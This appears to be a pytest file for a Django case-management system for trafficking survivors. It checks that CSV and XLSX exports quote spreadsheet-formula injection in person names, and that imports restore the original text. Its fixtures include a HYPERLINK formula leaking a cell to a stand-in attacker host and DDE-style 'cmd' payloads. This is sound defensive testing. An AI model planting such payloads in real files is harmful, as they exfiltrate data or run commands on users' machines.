"""A survivor's name that is a spreadsheet formula is written quoted in every HTCDS file CTIP
writes, and is read back as it was when the file is imported again."""

import csv
import io

import openpyxl
from django.urls import reverse

from ctip.accounts.roles import Role
from ctip.core.testing import verified_client
from ctip.exchange.importer import batch_create, batch_run
from ctip.exchange.tests.test_htcds import _case
from ctip.exchange.tests.test_import import countries  # noqa: F401 (fixture)
from ctip.people.models import Person

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _import(actor, content: bytes, name: str):
    batch, _created = batch_create(actor=actor, file_name=name, content=content)
    return batch_run(batch=batch, actor=actor)


def test_the_htcds_csv_quotes_a_formula_name_and_imports_it_back_unchanged(cast):
    case = _case(cast, "a", "A-1", consent="sharing", name=PAYLOAD)
    case.age_when_trafficked = 14
    case.save()
    case.person.family_name = "-2+3+cmd|' /C calc'!A0"
    case.person.save()
    text = (
        verified_client(cast.a[Role.CASE_SUPERVISOR])
        .get(reverse("exchange:htcds_download", args=["csv"]))
        .content.decode()
    )
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["prs_FirstName"] == "'" + PAYLOAD
    assert row["prs_SecondName"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["vic_AgeWhenTrafficked"] == "14"  # a number stays a number
    assert row["prs_Birthdate"] == "2010-01-02"

    # The ministry's file, imported into another organisation, gives back the very names.
    batch = _import(cast.b[Role.CASE_SUPERVISOR], text.encode(), "export.csv")
    assert (batch.rows_imported, batch.rows_failed) == (1, 0)
    person = Person.objects.get(organisation=cast.org_b)
    assert (person.given_name, person.family_name) == (PAYLOAD, "-2+3+cmd|' /C calc'!A0")


def test_the_htcds_api_csv_quotes_a_formula_name_and_json_keeps_it_as_it_is(cast):
    _case(cast, "a", "A-1", consent="sharing", name="@SUM(1+1)*cmd|' /C calc'!A0")
    client = verified_client(cast.a[Role.CASE_SUPERVISOR])
    records = client.get("/api/v1/exchange/htcds/?format=json").json()["records"]
    assert records[0]["prs_FirstName"] == "@SUM(1+1)*cmd|' /C calc'!A0"  # JSON runs nothing
    response = client.get("/api/v1/exchange/htcds/?format=csv")
    assert response.status_code == 200, response.content[:200]
    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["prs_FirstName"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_an_xlsx_cell_quoted_by_ctip_is_imported_as_the_original_text(cast):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["prs_FirstName", "prs_SecondName", "prs_Gender"])
    # As CTIP writes them (safe_cell): one quote before each.
    sheet.append(["'" + PAYLOAD, "''=already quoted", "Feminine"])
    out = io.BytesIO()
    book.save(out)

    batch = _import(cast.a[Role.CASE_SUPERVISOR], out.getvalue(), "cases.xlsx")
    assert (batch.rows_imported, batch.rows_failed) == (1, 0)
    person = Person.objects.get(organisation=cast.org_a)
    assert (person.given_name, person.family_name) == (PAYLOAD, "'=already quoted")


def test_the_import_issues_csv_quotes_a_formula_the_uploader_put_in_a_column_name(cast):
    supervisor = cast.a[Role.CASE_SUPERVISOR]
    content = 'prs_FirstName,"' + PAYLOAD.replace('"', '""') + '"\nSokha,x\n'
    batch = _import(supervisor, content.encode(), "cases.csv")
    download = verified_client(supervisor).get(reverse("exchange:import_errors", args=[batch.uuid]))
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    assert rows[0] == ["row", "column", "level", "message"]
    assert rows[1][:3] == ["1", "'" + PAYLOAD, "warning"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
